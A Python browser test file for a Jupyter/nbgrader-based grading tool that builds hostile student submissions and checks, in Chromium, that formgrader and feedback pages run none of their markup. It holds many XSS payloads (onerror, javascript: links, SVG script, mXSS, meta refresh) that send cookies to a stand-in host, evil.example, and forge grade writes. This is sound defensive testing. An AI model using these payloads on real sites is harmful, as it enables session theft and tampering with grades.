"""No student markup is ever active, in Chromium: a hostile class graded, its submissions opened in formgrader and
graded by hand, its feedback opened by the student.

The tiny course (tests/lmpolicy_grader/tiny_course.py) with three students beside an honest one (ada):
- ``mallory_md``: a written answer of every kind of active markup (an onerror image, mixed case and entity-encoded
  variants, javascript: links in HTML and markdown, a form, an iframe, an object, raw <style> and <meta refresh>,
  <base>, <svg onload>, a tracking image, an external stylesheet) around honest markdown and math;
- ``mallory_out``: an answer cell whose outputs, handed in and made again while graded, are a <script> in HTML, an
  SVG holding a script, application/javascript, a widget view, markdown and LaTeX holding raw HTML, and a PNG whose
  "base64" and width break out of their attribute; and an HTML page handed in beside the notebook;
- ``mallory_mix``: both in one submission, and a grade cell's worth of extra HTML in a raw cell.

Each attack, had it run, sets ``window.__pwned`` and asks http://evil.example/ and formgrader's grade API for
something. The instructor opens each hostile submission on formgrader's grading page and types a score for its
written answer: no flag is set, no request leaves for another host or for anything the page did not ask for (only
formgrader's own files, MathJax's and its API's reads, and the one grade typed), and the gradebook differs from
before in that one grade only. The page's response carries a Content-Security-Policy that refuses inline script;
a submission's HTML file is not served and its image is, inert. Then each student opens their feedback from disk:
no flag, no request. Screenshots: test-artifacts/hostile-markup/.
"""
from __future__ import annotations

import base64
import re
import shutil
from pathlib import Path
from urllib.parse import urlparse

import nbformat
import pytest
from nbformat.v4 import new_output, new_raw_cell

from lmpolicy_grader.__main__ import release
from lmpolicy_grader.class_grading.course import load_config
from lmpolicy_grader.class_grading.grading import grade_class
from tests.browser.conftest import ROOT, _serve, emptied
from tests.browser.test_formgrader_offline import _open_grading_page, _saved
from tests.lmpolicy_grader import tiny_course

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("browser")]

COURSE = "test-artifacts/hostile-markup-course"  # inside the server's root, as formgrader needs
MANUAL = "ex3__manual"
FLAG = "window.__pwned = (window.__pwned || []).concat"


def attack(name: str) -> str:
    """What each attack's script does if it runs: a flag, a leak to another host, a write to formgrader's API."""
    return (f"{FLAG}(['{name}']); fetch('http://evil.example/leak?' + document.cookie); "
            f"fetch('/formgrader/api/grade/x', {{method: 'PUT', body: '{{\"manual_score\": 99}}'}})")


def _attr(name: str) -> str:
    """attack(name) as an HTML attribute value (double-quoted)."""
    return attack(name).replace('"', "&quot;")


# 1x1 transparent PNG
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
HONEST_MARKDOWN = (r"Because $x^2 = x \cdot x$ and $$\frac{d}{dx} x^2 = 2x,$$ **a product** of two numbers "
                   "of the same sign.\n\n| x | x² |\n|---|---|\n| -2 | 4 |\n| 3 | 9 |\n\n![my plot](plot.png)\n")
HOSTILE_MARKDOWN = HONEST_MARKDOWN + "\n" + "\n".join([
    f'<img src=x onerror="{_attr("md-onerror")}">',
    f'<IMG SRC=x OnErRoR="{_attr("md-mixed-case")}">',
    f'<img src=x o&#110;error="{_attr("md-entity-name")}">',
    f'<a href="jav&#x61;script:{_attr("md-entity-href")}">click me</a>',
    f'<a href="JaVaScRiPt:{_attr("md-js-link")}">and me</a>',
    f'[a markdown link](javascript:{attack("md-markdown-link").replace(" ", "%20")})',
    f'![a markdown image](javascript:{attack("md-markdown-image").replace(" ", "%20")})',
    '<form action="/formgrader/api/grade/x" method="post"><input name="manual_score" value="99">'
    '<button>Save</button></form>',
    '<iframe src="/formgrader/manage_students" srcdoc="<script>parent.__pwned=[\'md-iframe\']</script>"></iframe>',
    '<object data="http://evil.example/object.swf"></object><embed src="http://evil.example/embed.swf">',
    '<style>body { background: url(http://evil.example/style.png) } .score { display: none }</style>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    '<base href="http://evil.example/">',
    f'<svg onload="{_attr("md-svg-onload")}"><script>{attack("md-svg-script")}</script></svg>',
    '<img src="http://evil.example/pixel.png">',
    '<link rel="stylesheet" href="http://evil.example/sheet.css">',
    f'<details open ontoggle="{_attr("md-ontoggle")}"><summary>Hint</summary>see</details>',
    f'<p style="background-image: url(http://evil.example/inline.png); color: red">red</p>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_attr("md-mxss")}"></style></mglyph></table></mtext></math>',
])
SVG_WITH_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{_attr("svg-onload")}">'
                   f'<script>{attack("svg-script")}</script><circle cx="20" cy="20" r="15" fill="teal"/></svg>')
HOSTILE_OUTPUTS = {  # mimetype bundle -> metadata, each one output
    "html-script": ({"text/html": f"<b>bold</b><script>{attack('out-html-script')}</script>",
                     "text/plain": "<HTML>"}, {}),
    "html-onerror": ({"text/html": f'<img src=x onerror="{_attr("out-html-onerror")}">'}, {}),
    "html-isolated": ({"text/html": f"<script>{attack('out-isolated')}</script>"}, {"text/html": {"isolated": True}}),
    "svg": ({"image/svg+xml": SVG_WITH_SCRIPT, "text/plain": "<SVG>"}, {}),
    "javascript": ({"application/javascript": attack("out-javascript"), "text/plain": "<Javascript>"}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                            "version_minor": 0},
                "text/plain": "a widget"}, {}),
    "markdown": ({"text/markdown": f'*md* <img src=x onerror="{_attr("out-markdown")}">'}, {}),
    "latex": ({"text/latex": f'$y$ <img src=x onerror="{_attr("out-latex")}">'}, {}),
    "png-breakout": ({"image/png": f'"><img src=x onerror="{_attr("out-png-data")}">'}, {}),
    "png-width": ({"image/png": PNG}, {"image/png": {"width": f'1 onerror="{_attr("out-png-width")}"'}}),
}


def _outputs_code() -> str:
    """An answer cell that makes every hostile output when graded (and a correct double)."""
    lines = ["from IPython.display import publish_display_data"]
    for data, metadata in HOSTILE_OUTPUTS.values():
        lines.append(f"publish_display_data({data!r}, metadata={metadata!r})")
    return "\n".join(lines) + "\n" + tiny_course.CORRECT_DOUBLE


def _hostile_outputs():
    return [new_output("display_data", data=data, metadata=metadata) for data, metadata in HOSTILE_OUTPUTS.values()]


def _notebook(written: str, hostile_outputs: bool, raw_cell: bool = False):
    nb = tiny_course.source_notebook()
    tiny_course.replace_answer(nb, MANUAL, written)
    if hostile_outputs:
        answer = nb.cells[tiny_course.cell_index(nb, "ex1__answer")]
        answer.source = _outputs_code()
        answer.outputs = _hostile_outputs()  # as handed in
        answer.execution_count = 1
    if raw_cell:
        nb.cells.insert(1, new_raw_cell(f'<img src=x onerror="{_attr("raw-cell")}">',
                                        metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    return nb


STUDENTS = {
    "ada": lambda: _notebook(HONEST_MARKDOWN, False),
    "mallory_out": lambda: _notebook(HONEST_MARKDOWN, True),
    "mallory_md": lambda: _notebook(HOSTILE_MARKDOWN, False),
    "mallory_mix": lambda: _notebook(HOSTILE_MARKDOWN, True, raw_cell=True),
}
HOSTILE = [student for student in STUDENTS if student != "ada"]


@pytest.fixture(scope="module")
def hostile_class():
    """The tiny course with the class above, released, graded (autograded notebooks and feedback)."""
    root = ROOT / COURSE
    shutil.rmtree(root, ignore_errors=True)
    root.mkdir(parents=True)
    tiny_course.make_course(root)
    release(root)
    for student, notebook in STUDENTS.items():
        tiny_course.submit(root, student, notebook())
        folder = root / "submitted" / student / "ch11"
        (folder / "plot.png").write_bytes(base64.b64decode(PNG))
        (folder / "notes.html").write_text(f"<script>{attack('handed-in-html')}</script>")
        (folder / "drawing.svg").write_text(SVG_WITH_SCRIPT)
    grade_class(root, workers=1, log=lambda _: None)
    return root


@pytest.fixture(scope="module")
def instructor_server(tmp_path_factory):
    """A `make instructor` of this module's own (formgrader keeps the course it opened first)."""
    yield from _serve("instructor", tmp_path_factory.mktemp("hostile-markup-server"))


@pytest.fixture(scope="module")
def shots(artifacts_dir) -> Path:
    return emptied(artifacts_dir / "hostile-markup")


def _gradebook_grades(root) -> dict[tuple[str, str], tuple]:
    """Every grade of every student: (student, grade id) -> (auto, manual, extra credit, needs manual grade)."""
    from nbgrader.api import Gradebook
    config = load_config(root)
    grades = {}
    with Gradebook(config.CourseDirectory.db_url, config.CourseDirectory.course_id) as gradebook:
        for student in STUDENTS:
            submission = gradebook.find_submission_notebook(tiny_course.NOTEBOOK, "ch11", student)
            for grade in submission.grades:
                grades[(student, grade.name)] = (grade.auto_score, grade.manual_score, grade.extra_credit,
                                                 grade.needs_manual_grade)
            for comment in submission.comments:
                grades[(student, "comment " + comment.name)] = (comment.manual_comment,)
    return grades


def _submission_id(root, student: str) -> str:
    from nbgrader.api import Gradebook
    config = load_config(root)
    with Gradebook(config.CourseDirectory.db_url, config.CourseDirectory.course_id) as gradebook:
        return gradebook.find_submission_notebook(tiny_course.NOTEBOOK, "ch11", student).id


class Watch:
    """What a page does: its console, the requests it makes (another host's aborted), what the attacks would flag."""

    def __init__(self, context, own_host: str | None):
        self.console, self.requests, self.elsewhere = [], [], []
        self.own_host = own_host

        def route(route):
            url = urlparse(route.request.url)
            self.requests.append((route.request.method, route.request.url))
            if url.scheme in ("http", "https") and url.netloc != self.own_host:
                self.elsewhere.append(route.request.url)
                return route.abort()
            return route.continue_()

        context.route(re.compile(r".*"), route)

    def attach(self, page):
        page.on("console", lambda message: self.console.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))

    def own_paths(self) -> list[tuple[str, str]]:
        return [(method, urlparse(url).path) for method, url in self.requests
                if urlparse(url).netloc == self.own_host]


# what the grading page itself asks its server for: formgrader's files, MathJax's, the grades, the submission's image
PAGE_ASKS = re.compile(r"^/(formgrader/(static/|submissions/[^/]+/?$|submissions/[^/]+/plot\.png$|api/(grades|comments)$|"
                       r"api/(grade|comment)/[^/]+$|fonts/)|static/jupyter_server_mathjax/|api/status$)")


def test_an_instructor_grades_every_hostile_submission_in_formgrader_and_nothing_runs(
        chromium, hostile_class, instructor_server, shots):
    from playwright.sync_api import expect

    before = _gradebook_grades(hostile_class)
    assert any(value[1] is None for (student, name), value in before.items() if name == MANUAL)  # not graded yet
    server_host = urlparse(instructor_server.base_url).netloc
    context = chromium.new_context(viewport={"width": 1200, "height": 1600})
    watch = Watch(context, server_host)
    typed = {}
    try:
        page = context.new_page()
        watch.attach(page)
        page.goto(instructor_server.url(f"/formgrader?path={COURSE}"))
        page.wait_for_url(re.compile(r"/formgrader/manage_assignments"), timeout=60_000)
        for number, student in enumerate(HOSTILE):
            page.wait_for_load_state("networkidle")  # the page before (its lists, its grade) asks nothing more
            watch.requests.clear()
            url = instructor_server.url(f"/formgrader/submissions/{_submission_id(hostile_class, student)}/?index=0")
            with page.expect_response(lambda r: "/formgrader/submissions/" in r.url and r.request.method == "GET"
                                      and r.url.split("?")[0].endswith("/")) as answer:
                _open_grading_page(page, url)
            policy = answer.value.headers.get("content-security-policy", "")

            score = page.locator(f"input.score#{MANUAL}")
            assert page.locator(f"input.score#{MANUAL}").count() == 1  # no id of the student's takes the input's
            written = score.locator("xpath=ancestor::div[contains(@class, 'nbgrader_cell')]")
            expect(written.locator("span.MathJax")).to_have_count(2)  # the answer's two formulas typeset
            expect(written.locator("strong")).to_have_text("a product")
            expect(written.locator("table td")).to_have_count(4)
            page.screenshot(path=str(shots / f"formgrader-{student}.png"), full_page=True)
            written.screenshot(path=str(shots / f"formgrader-{student}-written-answer.png"))

            typed[student] = 0.5 + number / 2
            _saved(page, lambda: (score.fill(str(typed[student])), score.press("Tab")))
            expect(score).not_to_have_class(re.compile(r"\bneeds_manual_grade\b"))
            page.wait_for_timeout(1500)  # an attack's late timer or load event would have run by now
            assert page.evaluate("window.__pwned === undefined"), page.evaluate("window.__pwned")
            assert watch.elsewhere == [], f"{student}'s page asked another host: {watch.elsewhere}"
            unasked = [(method, path) for method, path in watch.own_paths()
                       if not PAGE_ASKS.match(path) or (method != "GET" and not path.startswith("/formgrader/api/grade/"))]
            assert unasked == [], f"{student}'s page made requests it does not make for itself: {unasked}"
            assert len([path for method, path in watch.own_paths() if method == "PUT"]) == 1  # the grade typed
            # the page's response refuses inline script: a second wall, had the sanitizer let one through
            assert re.search(r"script-src 'self' 'sha256-[^']+' 'nonce-[^']+'", policy), policy
            assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
            assert all(part in policy for part in ("object-src 'none'", "base-uri 'none'", "form-action 'self'"))
    except Exception:
        page.screenshot(path=str(shots / "formgrader-failed.png"), full_page=True)
        raise
    finally:
        context.close()

    after = _gradebook_grades(hostile_class)
    changed = {key: (before[key], after[key]) for key in before if before[key] != after[key]}
    assert set(changed) == {(student, MANUAL) for student in HOSTILE}, changed
    for student in HOSTILE:
        auto, manual, extra, flagged = after[(student, MANUAL)]
        assert (manual, extra, flagged) == (typed[student], None, False)
    assert not [line for line in watch.console if "pwned" in line or "evil" in line.lower()
                and "Content Security Policy" not in line], watch.console


def test_a_submissions_files_are_served_as_inert_images_only(hostile_class, instructor_server):
    submission = _submission_id(hostile_class, "mallory_out")
    # formgrader's own route: opened first so that formgrader works on this course (as the instructor's page does)
    instructor_server.get(f"/formgrader?path={COURSE}")
    for name in ("notes.html", "drawing.svg", "01_tiny.ipynb"):
        status, _, body = instructor_server.get(f"/formgrader/submissions/{submission}/{name}")
        assert status == 404 and "__pwned" not in body, (name, status, body[:300])
    import urllib.request
    request = urllib.request.Request(f"{instructor_server.base_url}/formgrader/submissions/{submission}/plot.png",
                                     headers={"Authorization": f"token {instructor_server.token}"})
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200 and response.headers["Content-Type"] == "image/png"
        assert "sandbox" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.read() == base64.b64decode(PNG)


def test_a_student_opens_the_hostile_feedback_and_nothing_runs(chromium, hostile_class, shots):
    from playwright.sync_api import expect

    for student in STUDENTS:
        feedback = hostile_class / "feedback" / student / "ch11" / f"{tiny_course.NOTEBOOK}.html"
        context = chromium.new_context(viewport={"width": 1100, "height": 1400})
        watch = Watch(context, None)
        try:
            page = context.new_page()
            watch.attach(page)
            page.goto(feedback.as_uri())
            page.wait_for_function("() => window.MathJax && MathJax.Hub && MathJax.Hub.queue.pending === 0 "
                                   "&& document.querySelectorAll('span.MathJax').length > 0", timeout=60_000)
            page.wait_for_timeout(1500)
            written = page.locator("div.nbgrader_cell", has_text="a product").first
            expect(written.locator("span.MathJax")).to_have_count(2)
            expect(written.locator("table td")).to_have_count(4)
            page.screenshot(path=str(shots / f"feedback-{student}.png"), full_page=True)
            assert page.evaluate("window.__pwned === undefined"), (student, page.evaluate("window.__pwned"))
        finally:
            context.close()
        assert watch.elsewhere == [], f"{student}'s feedback asked the network: {watch.elsewhere}"
        local = [url for method, url in watch.requests if not url.startswith("file://")]
        assert local == [], local
        # the file refuses inline script: a second wall, had the sanitizer let one through
        text = feedback.read_text()
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', text)
        assert meta and "script-src 'self' 'sha256-" in meta.group(1) and "'unsafe-inline'" not in \
            meta.group(1).split("script-src", 1)[1].split(";")[0]
        assert text.index("Content-Security-Policy") < text.index("<script")  # before the page's first script
